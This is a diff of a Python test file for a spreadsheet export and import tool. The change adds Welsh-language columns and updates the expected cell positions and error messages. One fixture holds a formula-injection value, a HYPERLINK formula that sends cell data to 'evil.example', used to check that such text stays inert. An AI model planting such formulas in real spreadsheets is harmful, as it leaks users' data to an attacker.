@@ -11,13 +11,20 @@ import pytest
 import yaml
 from typer.testing import CliRunner
 
-from booklet.adapters.sheets import export_sheets, import_sheets
+from booklet.adapters.sheets import COLUMNS, export_sheets, import_sheets
 from booklet.cli.app import app
 from booklet.content.load import load_project_content
 from booklet.errors import BookletError
 
 ROOT = Path(__file__).resolve().parents[2]
 runner = CliRunner()
+
+
+def en(sheet: str, *values: object) -> list[object]:
+    """A row typed in the sheet's English columns only, in their order, with its Welsh cells left empty."""
+    english = [c for c in COLUMNS[sheet] if not c.endswith("_cy")]
+    given = dict(zip(english, values, strict=False))
+    return [given.get(c) for c in COLUMNS[sheet]]
 
 
 def snapshot(content: Path) -> dict[str, bytes]:
@@ -114,15 +121,29 @@ def test_xlsx_has_one_row_per_item_and_drop_downs(project: Path, tmp_path: Path)
     assert book.sheetnames[:3] == ["Organisations", "Routes", "Points"]
     orgs = book["Organisations"]
     header = [c.value for c in orgs[1]]
-    assert header == ["id", "name", "summary", "roles", "website", "order", "tags", "source", "reviewed"]
+    assert header == [
+        "id",
+        "name",
+        "name_cy",
+        "summary",
+        "summary_cy",
+        "roles",
+        "roles_cy",
+        "website",
+        "order",
+        "tags",
+        "source",
+        "reviewed",
+    ]
     ids = [r[0].value for r in orgs.iter_rows(min_row=2) if r[0].value]
     assert len(ids) == len(list((project / "content" / "organisations").glob("*.yaml")))
     gds = next(r for r in orgs.iter_rows(min_row=2) if r[0].value == "gds")
     source = yaml.safe_load((project / "content" / "organisations" / "gds.yaml").read_text())
-    assert gds[3].value == "; ".join(source["roles"])
-    assert gds[8].value.date() == source["reviewed"] and gds[8].number_format == "yyyy-mm-dd"
+    assert gds[5].value == "; ".join(source["roles"]) and gds[6].value == "; ".join(source["roles_cy"])
+    assert gds[2].value == source["name_cy"]
+    assert gds[11].value.date() == source["reviewed"] and gds[11].number_format == "yyyy-mm-dd"
     rules = {str(dv.sqref).split(":")[0]: dv for dv in orgs.data_validations.dataValidation}
-    assert rules["G2"].type == "list" and rules["G2"].formula1.startswith("=Lists!$A$2:$A$")  # tags
+    assert rules["J2"].type == "list" and rules["J2"].formula1.startswith("=Lists!$A$2:$A$")  # tags
     assert rules["A2"].type == "list" and rules["A2"].formula1.startswith("=Lists!$B$2:$B$")  # ids
     points = book["Points"]
     section_rule = next(dv for dv in points.data_validations.dataValidation if str(dv.sqref).startswith("A2:"))
@@ -140,7 +161,8 @@ def test_an_edited_sheet_changes_only_what_was_edited(project: Path, tmp_path: P
     row = next(r for r in orgs.iter_rows(min_row=2) if r[0].value == "gds")
     row[1].value = "Government Digital Service – Gwasanaeth Digidol & Data"
     orgs.append(
-        [
+        en(
+            "Organisations",
             "new-employer",
             "Café Société & Partners",
             "Makes things. Sells them.",
@@ -150,7 +172,7 @@ def test_an_edited_sheet_changes_only_what_was_edited(project: Path, tmp_path: P
             "technical",
             "https://www.example.org",
             "2026-11-01",
-        ]
+        )
     )
     book.save(tmp_path / "edited.xlsx")
     before = snapshot(project / "content")
@@ -209,18 +231,18 @@ def mistakes_sheet(path: Path, content: Path) -> None:
         ["Bad Id", "Bad Id", "Makes things.", "Analysts", *good],
     ]
     for row in rows:
-        orgs.append(row)
-    orgs.merge_cells("C5:C6")
+        orgs.append(en("Organisations", *row))
+    orgs.merge_cells("D5:D6")
     points = book["Points"]
     points["A3"] = "reasons"  # 11th: a section the booklet does not have
     book.save(path)
 
 
 EXPECTED = [
-    "mistakes.xlsx › Organisations!C5  summary  merged cells C5:C6 (unmerge them and type the value in every row that needs it)",  # noqa: E501
-    "mistakes.xlsx › Organisations!I7  reviewed  '11/28/2026': not a real date read day first (DD/MM/YYYY); is it written month first? (dates are YYYY-MM-DD (2026-11-28) or DD/MM/YYYY (28/11/2026))",  # noqa: E501
+    "mistakes.xlsx › Organisations!D5  summary  merged cells D5:D6 (unmerge them and type the value in every row that needs it)",  # noqa: E501
+    "mistakes.xlsx › Organisations!L7  reviewed  '11/28/2026': not a real date read day first (DD/MM/YYYY); is it written month first? (dates are YYYY-MM-DD (2026-11-28) or DD/MM/YYYY (28/11/2026))",  # noqa: E501
     "mistakes.xlsx › Organisations!A10  id  duplicate id 'cafe-societe' (first in row 2) (ids must be unique; rename or delete one of the rows)",  # noqa: E501
-    "mistakes.xlsx › Organisations!G11  tags  tags are separated with ',' (separate list items with ; (semicolon), e.g. a; b; c)",  # noqa: E501
+    "mistakes.xlsx › Organisations!J11  tags  tags are separated with ',' (separate list items with ; (semicolon), e.g. a; b; c)",  # noqa: E501
     "mistakes.xlsx › Organisations!A12  id  id 'Bad Id' is not lower case with hyphens (it becomes the file name: bad-id)",  # noqa: E501
     "mistakes.xlsx › Points!A3  section  unknown section 'reasons' (use why, challenges or skills)",
 ]
@@ -235,9 +257,9 @@ def test_ten_kinds_of_mistakes_are_all_reported_and_nothing_is_written(project: 
     print("\n".join(lines))
     for line in EXPECTED:
         assert line in lines
-    assert any(line.startswith("mistakes.xlsx › Organisations!E8  website  ") and "https://" in line for line in lines)
+    assert any(line.startswith("mistakes.xlsx › Organisations!H8  website  ") and "https://" in line for line in lines)
     assert any(line.startswith("mistakes.xlsx › Organisations!B9  name  missing required") for line in lines)
-    assert not [line for line in lines if "Organisations!C6" in line]  # the merge is reported once, at C5
+    assert not [line for line in lines if "Organisations!D6" in line]  # the merge is reported once, at D5
     # Accents, ampersands and blank rows are not mistakes.
     assert not [
         line for line in lines if "!A2 " in line or "Organisations!B2" in line or "!3 " in line or "!4 " in line
@@ -281,6 +303,7 @@ FORMULAS = {
     "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "summary": "+44 20 7946 0000 is the number to call.",
     "roles": ["@mention", "-minus", "'=quoted already", "Analysts"],
+    "roles_cy": ["@sôn", "-minws", "'=wedi'i ddyfynnu", "Dadansoddwyr"],
 }
 
 
@@ -303,6 +326,7 @@ def test_text_that_looks_like_a_formula_stays_text_both_ways(project: Path, tmp_
     assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"' in text
     assert ",'+44 20 7946 0000 is the number to call.," in text
     assert "'@mention; -minus; '=quoted already; Analysts" in text  # the list starts with @: one quote
+    assert "'@sôn; -minws; '=wedi'i ddyfynnu; Dadansoddwyr" in text  # Welsh columns are guarded the same way
     for source in (tmp_path / "content.xlsx", tmp_path / "csv"):
         assert import_sheets(source, project / "content").changes == []
         assert snapshot(project / "content") == before
@@ -372,8 +396,8 @@ def test_a_sheet_without_ids_or_renamed_is_refused_not_skipped(project: Path, tm
     code, lines = import_lines(edited(project, tmp_path, "noid.xlsx", rename_column), project)
     assert code == 1
     assert lines == [
-        "error: noid.xlsx › Routes!A1  -  unknown column 'route_id' (the Routes sheet has columns: id, title, summary,"
-        " url, steps, tags, source, reviewed)",
+        "error: noid.xlsx › Routes!A1  -  unknown column 'route_id' (the Routes sheet has columns: id, title, title_cy,"
+        " summary, summary_cy, url, steps, steps_cy, tags, source, reviewed)",
         "error: noid.xlsx › Routes!1  id  has no 'id' column (add it to the first row)",
     ]
 
@@ -412,11 +436,26 @@ def test_excel_habits_are_read_as_meant_and_every_problem_comes_at_once(project:
 
     def edit(book):
         orgs = book["Organisations"]
-        orgs.append([None, "Gwynedd Council", "Runs services.", "• Planners\n• Data analysts", *good])
-        orgs.append([None, None, "No name, no id.", "Analysts", good[0], 10, "technical", good[0], "soon"])
-        orgs.append(["Powys Council", "Powys", "Runs services.", "Analysts", *good])
-        orgs.append(["no-https", "No Https", "Runs services.", "Analysts", "www.example.org", *good[1:4], "soon"])
-        orgs.append(["formula", '=UPPER("x")', "Runs services.", "Analysts", *good])
+        orgs.append(
+            en("Organisations", None, "Gwynedd Council", "Runs services.", "• Planners\n• Data analysts", *good)
+        )
+        orgs.append(
+            en("Organisations", None, None, "No name, no id.", "Analysts", good[0], 10, "technical", good[0], "soon")
+        )
+        orgs.append(en("Organisations", "Powys Council", "Powys", "Runs services.", "Analysts", *good))
+        orgs.append(
+            en(
+                "Organisations",
+                "no-https",
+                "No Https",
+                "Runs services.",
+                "Analysts",
+                "www.example.org",
+                *good[1:4],
+                "soon",
+            )
+        )
+        orgs.append(en("Organisations", "formula", '=UPPER("x")', "Runs services.", "Analysts", *good))
 
     source = edited(project, tmp_path, "habits.xlsx", edit)
     last = openpyxl.load_workbook(source)["Organisations"].max_row
@@ -424,15 +463,15 @@ def test_excel_habits_are_read_as_meant_and_every_problem_comes_at_once(project:
     assert code == 1
     hint = "(type the date as YYYY-MM-DD (e.g. 2026-11-28))"
     assert lines == [
-        f"error: habits.xlsx › Organisations!I{last - 3}  reviewed  'soon' is text, not a date {hint}",
+        f"error: habits.xlsx › Organisations!L{last - 3}  reviewed  'soon' is text, not a date {hint}",
         f"error: habits.xlsx › Organisations!A{last - 3}  id  has no id (give each row an id, or a name to make it "
         "from)",
         f"error: habits.xlsx › Organisations!A{last - 2}  id  id 'Powys Council' is not lower case with hyphens (it "
         "becomes the file name: powys-council)",
-        f"error: habits.xlsx › Organisations!I{last - 1}  reviewed  'soon' is text, not a date {hint}",
+        f"error: habits.xlsx › Organisations!L{last - 1}  reviewed  'soon' is text, not a date {hint}",
         f"error: habits.xlsx › Organisations!B{last}  name  a formula with no saved value (open the file in Excel or "
         "LibreOffice and save it, or type the value instead)",
-        f"error: habits.xlsx › Organisations!E{last - 1}  website  'www.example.org' must be an https:// address "
+        f"error: habits.xlsx › Organisations!H{last - 1}  website  'www.example.org' must be an https:// address "
         "(write it as https://www.example.org)",
         f"error: habits.xlsx › Organisations!B{last - 3}  name  missing required key 'name' (Full name as printed, "
         'e.g. "Government Digital Service (GDS)".)',
@@ -463,7 +502,8 @@ def test_excel_habits_are_read_as_meant_and_every_problem_comes_at_once(project:
 
 @pytest.mark.parametrize("kind", ["csv", "ods"])
 def test_excel_habits_read_the_same_from_csv_and_ods(kind: str, project: Path, tmp_path: Path) -> None:
-    row = [
+    row = en(
+        "Organisations",
         None,
         "Gwynedd Council",
         "Runs services.",
@@ -473,7 +513,7 @@ def test_excel_habits_read_the_same_from_csv_and_ods(kind: str, project: Path, t
         "technical",
         "https://www.example.org",
         "15/11/2026",
-    ]
+    )
     if kind == "csv":
         export_sheets(project / "content", tmp_path / "csv")
         with (tmp_path / "csv" / "Organisations.csv").open("a", encoding="utf-8", newline="") as handle:
@@ -497,14 +537,16 @@ def test_import_shows_the_warnings_the_change_brings(project: Path, tmp_path: Pa
         project,
         tmp_path,
         "old.xlsx",
-        lambda book: book["Organisations"].append([*row, "https://www.example.net", dt.date(2020, 1, 1)]),
+        lambda book: book["Organisations"].append(
+            en("Organisations", *row, "https://www.example.net", dt.date(2020, 1, 1))
+        ),
     )
     code, lines = import_lines(source, project)
     assert code == 0
     warned = [line for line in lines if "warning:" in line]
     assert len(warned) == 1
     assert warned[0].startswith(
-        f"old.xlsx › Organisations!I{openpyxl.load_workbook(source)['Organisations'].max_row}  reviewed  "
+        f"old.xlsx › Organisations!L{openpyxl.load_workbook(source)['Organisations'].max_row}  reviewed  "
         "warning: organisation 'old-one' was last reviewed on 2020-01-01"
     )
 
@@ -522,7 +564,7 @@ def test_list_cells_typed_the_excel_way_become_items() -> None:
 def test_import_prints_at_most_forty_problem_lines(project: Path, tmp_path: Path) -> None:
     def many(book):
         for n in range(100):
-            book["Organisations"].append([f"Bad Id {n}", "Name", "Does things.", "Analysts"])
+            book["Organisations"].append(en("Organisations", f"Bad Id {n}", "Name", "Does things.", "Analysts"))
 
     code, lines = import_lines(edited(project, tmp_path, "many.xlsx", many), project)
     assert code == 1 and len(lines) == 40
